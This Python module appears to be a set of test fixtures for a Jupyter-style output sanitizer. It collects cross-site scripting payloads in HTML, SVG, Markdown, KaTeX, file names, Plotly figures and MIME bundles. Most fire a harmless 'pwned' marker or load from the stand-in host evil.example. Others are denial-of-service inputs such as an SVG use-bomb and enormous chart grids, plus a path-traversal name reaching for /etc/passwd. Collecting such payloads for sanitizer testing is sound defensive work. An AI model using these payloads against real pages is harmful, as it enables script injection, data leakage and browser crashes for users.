"""Texts, bundles and names by which somebody would like to run code in other people's pages.

Each calls ``pwned`` if it runs, or loads something of ``evil.example``. Collected from the
published cheat sheets for HTML, SVG, Markdown and MathML, and from the advisories of sanitizers,
Markdown readers and KaTeX.
"""

from __future__ import annotations

from typing import Any

HTML = [
    "<script>pwned('script')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>pwned('nested')</scr</script>ipt>",
    "<img src=x onerror=pwned('img')>",
    "<img src=x onerror='pwned(1)'//",
    '<img """><script>pwned("broken img")</script>">',
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/a.png 1x'>",
    "<picture><source srcset=https://evil.example/a.png><img src=x></picture>",
    "<svg onload=pwned('svg')>",
    "<svg><script>pwned('svg script')</script></svg>",
    "<svg><script href=data:text/javascript,pwned('svg-href') /></svg>",
    "<svg><animate onbegin=pwned('animate') attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned('xlink')><text y=20>click</text></a></svg>",
    "<svg><set attributeName=href to=javascript:pwned('set') /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=pwned('svg-style')></style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned(1)></svg>#x'></use></svg>",
    "<math><a xlink:href=javascript:pwned('math')>click</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math href=javascript:pwned(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned('mxss')>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(1)>'>",
    "<template><script>pwned('template')</script></template>",
    "<template shadowrootmode=open><script>pwned('dsd')</script></template>",
    "<iframe src=javascript:pwned('iframe')></iframe>",
    "<iframe srcdoc='<script>parent.pwned(1)</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=data:text/html,<script>parent.pwned(1)</script>></object>",
    "<embed src=javascript:pwned('embed')>",
    "<applet code=x>",
    "<frameset onload=pwned('frameset')>",
    "<body onload=pwned('body')>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned(1)'>",
    "<base href=https://evil.example/><a href=x>x</a>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=modulepreload href=https://evil.example/x.js>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<a href=javascript:pwned('a')>click</a>",
    "<a href=' &#14; javascript:pwned(1)'>click</a>",
    "<a href='java&Tab;script:pwned(1)'>click</a>",
    "<a href='data:text/html,<script>pwned(1)</script>'>click</a>",
    "<a href=vbscript:pwned()>click</a>",
    "<a href=https://ok.example ping=https://evil.example/ping>click</a>",
    "<area href=javascript:pwned('area') shape=default>",
    "<form action=javascript:pwned('form')><input type=submit id=attributes></form>",
    "<button formaction=javascript:pwned('formaction')>click</button>",
    "<input onfocus=pwned('focus') autofocus>",
    "<select onfocus=pwned('select') autofocus></select>",
    "<textarea onfocus=pwned('textarea') autofocus></textarea>",
    "<details open ontoggle=pwned('toggle')><summary>x</summary></details>",
    "<video src=x onerror=pwned('video')></video>",
    "<video poster=https://evil.example/p.png></video>",
    "<audio src=https://evil.example/a.mp3 onerror=pwned('audio')>",
    "<marquee onstart=pwned('marquee')>x</marquee>",
    "<div style='background:url(https://evil.example/bg)'>x</div>",
    "<div style='background-image:url(javascript:pwned(1))'>x</div>",
    "<div style='width:expression(pwned(1))'>x</div>",
    "<div style='behavior:url(https://evil.example/x.htc)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>covers the page</div>",
    "<style>@import 'https://evil.example/i.css';td{background:url(https://evil.example/s)}</style>x",
    "<style>:host{position:fixed!important;inset:0}*{position:fixed!important}</style>covers",
    "<style>@font-face{font-family:e;src:url(https://evil.example/f)}td{font-family:e}</style>x",
    "<style>td{--x:url(https://evil.example/v);background:var(--x)}</style><td>x",
    "<style>a{}</style ><img src=x onerror=pwned('style-end')>",
    "<style><style/><img src=x onerror=pwned('style-style')>",
    "<xss onpointerrawupdate=pwned('custom') style=display:block>x</xss>",
    "<div onpointerenter=pwned('enter') onanimationstart=pwned(1)>x</div>",
    "<p id=cookie name=cookie>clobber</p><a id=location href=https://ok.example>x</a>",
    "<img name=getElementById><img id=currentScript>",
    "<!--><img src=x onerror=pwned('comment')>-->",
    "<![CDATA[<img src=x onerror=pwned('cdata')>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwned(1)</x:script>",
    "<table background=https://evil.example/t.png><tr><td background=https://evil.example/u.png>x",
    "<dialog open style=position:fixed>x</dialog><div popover=manual id=p>x</div>",
]

MARKDOWN = [
    *HTML,
    "[click](javascript:pwned('md'))",
    "[click](JaVaScRiPt:pwned('md'))",
    "[click](javascript&colon;pwned('md'))",
    "[click](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;pwned(1))",
    "[click](\x01javascript:pwned('md'))",
    "[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)",
    "[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKDEpIi8+)",
    "[click][ref]\n\n[ref]: javascript:pwned('ref')",
    "[click](https://ok.example \"x' onmouseover='pwned(1)\")",
    '[click](https://ok.example"onmouseover="pwned(1))',
    "![x](https://evil.example/md.png)",
    "![x](javascript:pwned('image'))",
    "![x\" onerror=\"pwned('alt')](x)",
    "<javascript:pwned('autolink')>",
    "<https://ok.example/onmouseover=pwned(1)>",
    "```html onload=pwned(1)\n<script>pwned('fence')</script>\n```",
    "```\"><script>pwned('info')</script>\nx\n```",
    "`<img src=x onerror=pwned('code')>`",
    "| <img src=x onerror=pwned('cell')> | [x](javascript:pwned(1)) |\n|---|:-:|\n| a | b |",
    "# <svg/onload=pwned('heading')>",
    "- [x] <img src=x onerror=pwned('task')>",
    ":tada:<script>pwned('emoji')</script>",
    "__proto__ :constructor: :__proto__: :toString:",
]

LATEX = [
    r"\href{javascript:pwned('href')}{click}",
    r"\url{javascript:pwned('url')}",
    r"\includegraphics{https://evil.example/katex.png}",
    r"\includegraphics[alt=\" onerror=pwned(1)]{x}",
    r"\htmlClass{x}{y}\htmlId{location}{y}\htmlStyle{position:fixed;inset:0}{y}\htmlData{a=b}{y}",
    r"\text{<img src=x onerror=pwned('text')>}",
    r"\unicode{<script>pwned(1)</script>}",
    r"\def\a{\a\a}\a",
    r"\def\b#1{\b{#1#1}}\b{x}",
    r"\rule{100000em}{100000em}",
    r"\raisebox{-10000em}{far away}\kern{-9999em}x",
    r"\color{red;background:url(https://evil.example/c)}x",
    r"\textcolor{expression(pwned(1))}{x}\colorbox{url(https://evil.example/d)}{y}",
    r"\char`\<\verb|<script>pwned('verb')</script>|",
    r"\gdef\frac{\href{javascript:pwned('gdef')}{x}}",
    r"\newcommand{\evil}[1]{\html{#1}}\evil{<img src=x onerror=pwned(1)>}",
    "x" * 20_000,
    "{" * 4_000,
]

SVG = [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="pwned(1)"><script>pwned(2)</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/i.png"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/s.css)</style></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
    '<img src="x" onerror="top.pwned(1)"/><iframe src="javascript:top.pwned(1)"/></body></foreignObject></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/u.svg#a"/></svg>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "https://evil.example/e">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    "\"/><img src=x onerror=pwned('svg-attribute')>",
]

SVG_BOMB = (
    '<svg xmlns="http://www.w3.org/2000/svg"><defs><g id="a0"><rect width="1" height="1"/></g>'
    + "".join(
        f'<g id="a{level}">' + f'<use href="#a{level - 1}"/>' * 10 + "</g>"
        for level in range(1, 10)
    )
    + '</defs><use href="#a9"/></svg>'
)
"""Ten times ten times … shapes: a browser that draws it is lost."""

NAMES = [
    "<script>pwned('name')</script>",
    "<img src=x onerror=pwned('name')>.png",
    '" onmouseover="pwned(1)" x="',
    "javascript:pwned('name')",
    "../../../etc/passwd",
    "${pwned(1)}{{constructor.constructor('pwned(1)')()}}",
    "\u202egnp.exe",
]

CELL = "application/vnd.meetwidget.cell+json"

PLOTLY = "application/vnd.plotly.v1+json"

_TEXTS = [*HTML, "<a href='javascript:pwned(1)'>x</a>", "<a href='https://evil.example'>x</a>"]
_STYLED = "<b style='fill:url(https://evil.example/f);cursor:url(https://evil.example/c)'>x</b>"

FIGURES: list[dict[str, Any]] = [
    {
        "data": [
            {
                "type": "bar",
                "x": _TEXTS,
                "y": [1] * len(_TEXTS),
                "text": _TEXTS,
                "name": _STYLED,
                "hovertemplate": "<%{text}<extra><%{x}</extra>",
                "texttemplate": _STYLED + "<%{customdata}",
                "customdata": ["a href='javascript:pwned(1)'>x</a"] * len(_TEXTS),
            }
        ],
        "layout": {
            "title": {"text": "".join(HTML)},
            "xaxis": {"title": {"text": _STYLED}, "showticklabels": False},
            "hovermode": "x",
        },
    },
    {
        "data": [{"y": [1, 2], "name": "&lt;a href='javascript:pwned(1)'&gt;x&lt;/a&gt;"}],
        "layout": {
            "images": [{"source": "https://evil.example/layout.png", "xref": "paper"}],
            "annotations": [{"text": _STYLED, "x": 1, "y": 1}, {"text": HTML[3], "x": 0, "y": 1}],
            "updatemenus": [{"buttons": [{"label": HTML[0], "method": "relayout", "args": [{}]}]}],
            "font": {"family": "x;background:url(https://evil.example/font)"},
            "paper_bgcolor": "url(https://evil.example/paper)",
            "template": {"layout": {"images": [{"source": "https://evil.example/t.png"}]}},
        },
        "config": {"plotlyServerURL": "https://evil.example", "showLink": True, "linkText": "x"},
        "frames": [{"layout": {"images": [{"source": "https://evil.example/frame.png"}]}}],
    },
    {
        "data": [
            {"y": [1, 2], "marker": {"color": "url(https://evil.example/m)", "symbol": HTML[0]}},
            {"y": [2, 1], "line": {"color": "javascript:pwned(1)", "dash": "0.0000001px"}},
        ]
    },
    {
        "data": [{"y": [1, 2]}],
        "layout": {"shapes": [{"type": "path", "path": "M0,0url(https://evil.example/s)"}]},
    },
    {"data": [{"type": "image", "source": "https://evil.example/trace.png"}]},
    {"data": [{"type": "image", "source": "data:image/svg+xml,<svg onload=pwned(1)/>"}]},
    {"data": [{"type": "scattermapbox", "lat": [1], "lon": [1]}], "layout": {"mapbox": {}}},
    {"data": [{"type": "heatmap", "x": [*range(90_000)], "y": [*range(90_000)], "z": [1] * 9}]},
    {"data": [{"type": "histogram", "x": [0, 1e9], "xbins": {"start": 0, "end": 1e9, "size": 1}}]},
    {"data": [{"type": "histogram2d", "x": [0, 1e9], "y": [0, 1], "nbinsx": 1e9, "nbinsy": 1e9}]},
    {"data": [{"type": "violin", "y": [0, 1e9, 1], "bandwidth": 1e-9}]},
    {"data": [{"y": [1, 2]}], "layout": {"grid": {"rows": 1e9, "columns": 1e9}}},
    {"data": [{"y": [1, 2]}], "layout": {"yaxis": {"dtick": 1e-12, "tickformat": "999999999d"}}},
    {"data": [{"y": [1, 2]}], "layout": {"xaxis": {"range": [0, 1e300], "minor": {"nticks": 1e9}}}},
    {"data": [{"type": "contour", "z": [[1, 2], [3, 4]], "contours": {"size": 1e-12}}]},
    {"data": [{"y": {"dtype": "f8", "bdata": "AAAA", "shape": "1e9, 1e9"}}]},
    {"data": [{"y": {"dtype": "constructor", "bdata": "AAAAAAAA"}}]},
    {"data": [{"type": "scatter", "y": [1] * 60_000, "mode": "markers+text", "text": ["x"]}]},
    {"data": [{"y": [1]}] * 5_000},
    {"data": "x", "layout": "y"},
    {"data": [None, 1, "x"]},
]
"""Figures that load, link, run or never end where Plotly draws them as they come."""

BUNDLES: list[dict[str, Any]] = [
    *({"text/html": html, "text/plain": "t"} for html in HTML),
    {"text/html": "\n".join(HTML)},
    *({"image/svg+xml": svg} for svg in SVG),
    {"image/svg+xml": SVG_BOMB, "text/plain": "a figure"},
    *({"text/latex": tex} for tex in LATEX),
    {"text/markdown": "\n\n".join(MARKDOWN)},
    {
        "application/javascript": "pwned('javascript')",
        "text/plain": "<IPython.core.display.Javascript>",
    },
    {"application/javascript": "pwned('javascript')"},
    {"text/javascript": "pwned('javascript')"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}},
    {PLOTLY: {"data": [{"text": HTML[0]}]}, "text/html": HTML[0]},
    *({PLOTLY: figure, "text/plain": "a figure"} for figure in FIGURES),
    {"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": "pwned(1)"},
    {"image/png": "x' onerror='pwned(1)"},
    {"image/png": '"><script>pwned("png")</script>'},
    {"image/jpeg": ["aGk=", "\n", "<script>pwned(1)</script>"]},
    {"image/svg+xml": {"toString": "pwned"}},
    {"application/json": {"__proto__": {"pwned": 1}, "html": HTML[0]}},
    {"text/html": ["<img src=x ", "onerror=pwned('lines')>"]},
    {
        "text/plain": "\x1b]8;;javascript:pwned(1)\x07click\x1b]8;;\x07 \x1b[31m<script>pwned(1)</script>"
    },
    {f"text/{HTML[0]}": "x"},
    {
        CELL: {
            "source": HTML[0],
            "language": '"><script>pwned("language")</script>',
            "execution_count": HTML[0],
            "outputs": [
                {"output_type": "stream", "name": HTML[0], "text": HTML},
                {"output_type": "error", "ename": HTML[0], "evalue": HTML[3], "traceback": HTML},
                {"output_type": "display_data", "data": {"text/html": "".join(HTML)}},
                {"output_type": "display_data", "data": {CELL: {"source": HTML[3]}}},
                {"output_type": "execute_result", "data": {"image/svg+xml": SVG[0]}},
                {"output_type": HTML[0], "data": HTML[0]},
            ],
        }
    },
    {CELL: {"source": {"html": HTML[0]}, "outputs": {"length": 3}}, "text/plain": HTML[0]},
    {CELL: HTML[0]},
    {},
]
